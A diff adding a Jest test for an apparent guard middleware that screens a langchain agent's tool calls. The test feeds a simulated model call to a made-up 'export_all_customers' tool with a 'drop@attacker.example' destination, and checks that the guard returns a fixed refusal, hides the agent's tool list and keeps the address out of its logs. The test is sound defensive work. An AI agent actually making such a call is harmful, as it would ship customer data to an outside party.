@@ -19,6 +19,7 @@ import {
   Trust,
   UnreleasedContextError,
   VerdictModule,
+  fingerprintString,
 } from '@verdict/nestjs';
 import {
   ModelInputGuard,
@@ -214,6 +215,40 @@ describe('ModelInputGuard (langchain agent middleware)', () => {
 
     expect(outcome).toBeInstanceOf(UnreleasedContextError);
     expect(model.callCount).toBe(1);
+  });
+
+  it('answers a call of a tool the agent does not have with Verdict’s refusal, so the model can retry with one it has', async () => {
+    const { run, evidence } = setup();
+    const madeUp = 'export_all_customers';
+    const { model, outcome } = await run([
+      { toolCalls: [{ name: madeUp, args: { to: 'drop@attacker.example' }, id: 'call_made_up' }] },
+      lookup,
+      { text: 'You are customer 72.' },
+    ]);
+
+    // Control: the run goes on, and the tool that exists answers through its route.
+    expect(outcome).toBeNull();
+    expect(model.callCount).toBe(3);
+    const [refusal, released] = model.toolMessages();
+    expect(JSON.parse(String(released.content))).toEqual({
+      id: 72,
+      name: 'Synthetic Customer 72',
+      email: '[REDACTED]',
+    });
+    // Attack: the model reads Verdict's fixed answer, never langchain's error listing the agent's tools.
+    expect(refusal.content).toBe(
+      JSON.stringify({ status: 'not_executed', capability: madeUp, decision: 'deny', message: PUBLIC_MESSAGE }),
+    );
+    expect(evidence.decisions()).toEqual([
+      expect.objectContaining({
+        capability: `unknown:${fingerprintString(madeUp)}`,
+        toolKind: 'model_input_guard',
+        disposition: 'deny',
+        reason: 'unknown_tool',
+        toolCallFingerprint: fingerprintString('call_made_up'),
+      }),
+    ]);
+    expect(JSON.stringify(evidence.decisions())).not.toContain('attacker.example');
   });
 
   it('lets Verdict’s own not_executed answer through: it holds the fixed public message and nothing else', async () => {
